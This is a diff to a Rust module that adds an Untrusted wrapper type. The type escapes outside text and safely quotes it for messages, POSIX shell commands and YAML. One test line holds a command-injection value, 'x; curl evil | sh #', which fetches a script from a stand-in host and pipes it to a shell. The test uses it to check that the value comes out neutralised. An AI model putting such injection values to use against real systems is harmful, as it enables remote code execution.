@@ -1,52 +1,141 @@
-//! Text from outside, before it stands in a message. In: any text. Out: the same quoted, escaped or cut. It knows nothing of what the
-//! text is.
+//! Text from outside, on its way into a message. In: any text. Out: the same, escaped and cut, and quoted for where it stands. It knows
+//! nothing of what the text is.
 
-/// `text` in quotes, escaped, and cut to what a message can bear.
-#[must_use]
-pub(crate) fn quote(text: &str) -> String {
-    quote_to(text, 80)
+/// Text from outside: a name, a value, a path, what the host reported. It can't be printed as it came: every way out escapes
+/// and cuts.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Untrusted(String);
+
+impl<T: Into<String>> From<T> for Untrusted {
+    fn from(text: T) -> Self {
+        Self(text.into())
+    }
 }
 
-/// `text` in quotes, escaped, and cut to `max` characters.
-#[must_use]
-pub(crate) fn quote_to(text: &str, max: usize) -> String {
-    let mut quoted = String::from("\"");
-    for c in cut_middle(text, max).chars() {
-        match c {
-            '"' => quoted.push_str("\\\""),
-            '\\' => quoted.push_str("\\\\"),
-            '\n' => quoted.push_str("\\n"),
-            '\t' => quoted.push_str("\\t"),
-            c if c.is_control() => quoted.extend(c.escape_unicode()),
-            c => quoted.push(c),
+impl Untrusted {
+    /// As it came, to be compared or asked for, never to be printed.
+    #[must_use]
+    pub fn as_str(&self) -> &str {
+        &self.0
+    }
+
+    /// Escaped and cut to `max` bytes.
+    #[must_use]
+    pub(crate) fn plain(&self, max: usize) -> String {
+        shown(&self.0, max, Around::Nothing)
+    }
+
+    /// In quotes, escaped, and cut to what a message can bear.
+    #[must_use]
+    pub(crate) fn quoted(&self) -> String {
+        self.quoted_to(80)
+    }
+
+    /// In quotes, escaped, and cut to `max` bytes within them.
+    #[must_use]
+    pub(crate) fn quoted_to(&self, max: usize) -> String {
+        format!("\"{}\"", shown(&self.0, max, Around::Quotes))
+    }
+
+    /// A word of a command in a POSIX shell. What can't be the name of an object, because it is too long or can't be
+    /// printed, is `placeholder`.
+    #[must_use]
+    pub(crate) fn shell_word(&self, placeholder: &str) -> String {
+        let safe = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_' | '/' | ':' | '@');
+        if !self.is_name_like() || self.0.starts_with('-') {
+            placeholder.to_owned()
+        } else if self.0.chars().all(safe) {
+            self.0.clone()
+        } else {
+            format!("'{}'", self.0.replace('\'', r"'\''"))
         }
     }
-    quoted.push('"');
-    quoted
+
+    /// A YAML scalar in double quotes, or else `placeholder` in them.
+    #[must_use]
+    pub(crate) fn yaml(&self, placeholder: &str) -> String {
+        let text = if self.is_name_like() { &self.0 } else { placeholder };
+        format!("\"{}\"", text.replace('\\', r"\\").replace('"', "\\\""))
+    }
+
+    fn is_name_like(&self) -> bool {
+        (1..=NAME_MAX).contains(&self.0.len()) && self.0.chars().all(is_visible)
+    }
 }
 
-/// `text` without control characters.
-#[must_use]
-pub(crate) fn printable(text: &str) -> String {
-    text.chars().map(|c| if c.is_control() { '\u{fffd}' } else { c }).collect()
+/// Longest name of an object (Kubernetes: an RFC 1123 subdomain).
+pub(crate) const NAME_MAX: usize = 253;
+
+/// Whether `c` can be seen for what it is, or is a blank.
+fn is_visible(c: char) -> bool {
+    if c.is_ascii() {
+        return !c.is_ascii_control();
+    }
+    // Letters without a glyph: Hangul fillers, and the blank of Braille.
+    let blank = matches!(c, '\u{115f}' | '\u{1160}' | '\u{2800}' | '\u{3164}' | '\u{ffa0}');
+    // What the standard library escapes: control, format and separator characters, combining marks, what is unassigned.
+    !blank && c.escape_debug().len() == 1
 }
 
-/// `text`, with its middle cut out where it is longer than `max` characters.
+/// What stands around a text.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Around {
+    Nothing,
+    Quotes,
+}
+
+/// Appends `c` as a message has it.
+fn push(c: char, around: Around, out: &mut String) {
+    match c {
+        '\n' => out.push_str("\\n"),
+        '\r' => out.push_str("\\r"),
+        '\t' => out.push_str("\\t"),
+        '"' | '\\' if around == Around::Quotes => out.extend(['\\', c]),
+        c if is_visible(c) => out.push(c),
+        c => out.extend(c.escape_unicode()),
+    }
+}
+
+/// As many characters as fit into `max` bytes once they are escaped.
+fn fitting(chars: impl Iterator<Item = char>, max: usize, around: Around) -> (usize, String) {
+    let (mut number, mut out) = (0, String::new());
+    for c in chars {
+        let before = out.len();
+        push(c, around, &mut out);
+        if out.len() > max {
+            out.truncate(before);
+            break;
+        }
+        number += 1;
+    }
+    (number, out)
+}
+
+/// `text` escaped, with its middle cut out where it comes out longer than `max` bytes.
+fn shown(text: &str, max: usize, around: Around) -> String {
+    let (number, whole) = fitting(text.chars(), max, around);
+    if text.chars().nth(number).is_none() {
+        return whole;
+    }
+    let room = max.saturating_sub('…'.len_utf8());
+    let (_, mut head) = fitting(text.chars(), room / 2, around);
+    let (number, _) = fitting(text.chars().rev(), room - room / 2, around);
+    head.push('…');
+    let start = text.char_indices().rev().take(number).last().map_or(text.len(), |(start, _)| start);
+    text.get(start..).unwrap_or_default().chars().for_each(|c| push(c, around, &mut head));
+    head
+}
+
+/// `text`, which is fit to be printed, with its middle cut out where it is longer than `max` bytes.
 #[must_use]
 pub(crate) fn cut_middle(text: &str, max: usize) -> String {
-    let length = text.chars().count();
-    if length <= max {
-        return text.to_owned();
-    }
-    let head = max.saturating_sub(1) / 2;
-    let tail = max.saturating_sub(1) - head;
-    text.chars().take(head).chain(['…']).chain(text.chars().skip(length - tail)).collect()
+    shown(text, max, Around::Nothing)
 }
 
 /// The one of `known` that `name` was most likely meant to be.
 #[must_use]
 pub(crate) fn nearest<'k>(name: &str, known: impl Iterator<Item = &'k str>) -> Option<&'k str> {
-    let name = cut_middle(name, 128);
+    let name: String = name.chars().take(128).collect();
     known.min_by_key(|known| strsim::levenshtein(&name, known))
 }
 
@@ -54,10 +143,49 @@ pub(crate) fn nearest<'k>(name: &str, known: impl Iterator<Item = &'k str>) -> O
 mod tests {
     use super::*;
 
+    fn text(text: &str) -> Untrusted {
+        Untrusted::from(text)
+    }
+
     #[test]
     fn quotes_escapes_and_cuts_what_was_found() {
-        assert_eq!(quote("${CLIENT_ID}"), r#""${CLIENT_ID}""#);
-        assert_eq!(quote("a\n\"b\"'"), r#""a\n\"b\"'""#);
-        assert_eq!(quote_to("abcdefghij", 5), "\"ab…ij\"");
+        assert_eq!(text("${CLIENT_ID}").quoted(), r#""${CLIENT_ID}""#);
+        assert_eq!(text("a\n\"b\"'\\").quoted(), r#""a\n\"b\"'\\""#);
+        assert_eq!(text("abcdefghij").quoted_to(7), "\"ab…ij\"");
+        assert_eq!(text("abcdefghij").quoted_to(10), "\"abcdefghij\"");
+        assert_eq!(text("ä\u{1b}[31m").plain(80), "ä\\u{1b}[31m");
+    }
+
+    #[test]
+    fn shows_what_can_not_be_seen() {
+        for c in ["\u{200b}", "\u{feff}", "\u{a0}", "\u{202e}", "\u{2028}", "\u{7f}", "\u{3164}", "\u{301}"] {
+            let escaped: String = c.chars().flat_map(char::escape_unicode).collect();
+            assert_eq!(text(&format!("a{c}b")).quoted(), format!("\"a{escaped}b\""));
+        }
+        assert_eq!(text("Ünïcode – 漢字 🚀").quoted(), "\"Ünïcode – 漢字 🚀\"");
+    }
+
+    #[test]
+    fn never_cuts_an_escape_in_two() {
+        let long = text(&"\u{202e}".repeat(100_000));
+        assert_eq!(long.plain(43), format!("{}…{}", "\\u{202e}".repeat(2), "\\u{202e}".repeat(2)));
+        assert!((0..200).all(|max| text(&"é\u{200b}x".repeat(100)).plain(max).len() <= max.max(3)));
+    }
+
+    #[test]
+    fn quotes_a_word_for_the_shell() {
+        assert_eq!(text("my-account.1").shell_word("NAME"), "my-account.1");
+        assert_eq!(text("x; curl evil | sh #").shell_word("NAME"), "'x; curl evil | sh #'");
+        assert_eq!(text("it's $HOME").shell_word("NAME"), r"'it'\''s $HOME'");
+        for unfit in ["", "--all", "a\nb", "a\u{200b}", &"a".repeat(254)] {
+            assert_eq!(text(unfit).shell_word("NAME"), "NAME");
+        }
+    }
+
+    #[test]
+    fn quotes_a_scalar_for_yaml() {
+        assert_eq!(text("keep;a").yaml("CONTAINER"), "\"keep;a\"");
+        assert_eq!(text("a\"\\").yaml("CONTAINER"), r#""a\"\\""#);
+        assert_eq!(text("a\nb").yaml("CONTAINER"), "\"CONTAINER\"");
     }
 }
